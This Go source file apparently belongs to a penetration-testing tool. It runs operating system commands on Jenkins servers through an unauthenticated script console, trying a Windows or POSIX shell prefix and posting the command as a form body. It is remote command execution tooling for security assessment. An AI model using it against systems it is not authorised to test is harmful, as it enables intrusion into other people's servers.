// Package scriptconsole runs operating system commands through an
// unauthenticated Jenkins script console (/script).
package scriptconsole

import (
	"context"
	"fmt"

	"github.com/CompassSecurity/groovyleek/pkg/jenkins/targets"
	"github.com/rs/zerolog/log"
)

// Shell selects which shell prefixes are tried.
type Shell string

const (
	// ShellAuto tries cmd.exe first and falls back to direct execution once.
	ShellAuto    Shell = "auto"
	ShellWindows Shell = "windows"
	ShellPosix   Shell = "posix"
)

// ParseShell validates a --shell value.
func ParseShell(s string) (Shell, error) {
	switch Shell(s) {
	case ShellAuto, ShellWindows, ShellPosix:
		return Shell(s), nil
	case "":
		return ShellAuto, nil
	default:
		return "", fmt.Errorf("unknown shell %q, use auto, windows or posix", s)
	}
}

// Prefixes returns the prefixes attempted in order. Never more than two.
func (s Shell) Prefixes() []string {
	switch s {
	case ShellWindows:
		return []string{WindowsPrefix}
	case ShellPosix:
		return []string{PosixPrefix}
	default:
		return []string{WindowsPrefix, PosixPrefix}
	}
}

// Options configure a single execution.
type Options struct {
	Command     string
	Shell       Shell
	KillTimeout int
}

// Result is the final state of an execution against one target.
type Result struct {
	Target   targets.Target
	Command  string
	Outcome  Outcome
	Stdout   string
	Stderr   string
	Prefix   string
	Attempts int
	Err      error
}

// Succeeded reports whether the command ran.
func (r Result) Succeeded() bool {
	return r.Outcome == OutcomeSuccess
}

// Execute runs the command on target. The first attempt uses the cmd.exe
// prefix; when the response indicates the prefix cannot be executed, one more
// attempt is made without prefix. Every other outcome ends the execution.
func Execute(ctx context.Context, requester Requester, target targets.Target, opts Options) Result {
	result := Result{Target: target, Command: opts.Command, Outcome: OutcomeUnknownError}

	prefixes := opts.Shell.Prefixes()
	for i, prefix := range prefixes {
		if err := ctx.Err(); err != nil {
			result.Err = err
			return result
		}

		result.Attempts = i + 1
		result.Prefix = prefix
		canRetry := i < len(prefixes)-1

		body, err := BuildFormBody(prefix, opts.Command, opts.KillTimeout)
		if err != nil {
			result.Err = err
			return result
		}

		log.Debug().Str("target", target.String()).Int("attempt", result.Attempts).Str("prefix", prefix).Msg("Sending payload")
		page, err := requester.Post(ctx, target, body)
		if err != nil {
			result.Err = err
			return result
		}

		out, outcome, err := Interpret(page, canRetry)
		if err != nil {
			result.Err = err
			return result
		}

		if outcome == OutcomeUnsupportedShell {
			log.Debug().Str("target", target.String()).Str("prefix", prefix).Msg("Shell prefix not supported, retrying without prefix")
			continue
		}

		result.Outcome = outcome
		result.Stdout = out.Stdout
		result.Stderr = out.Stderr
		return result
	}

	return result
}
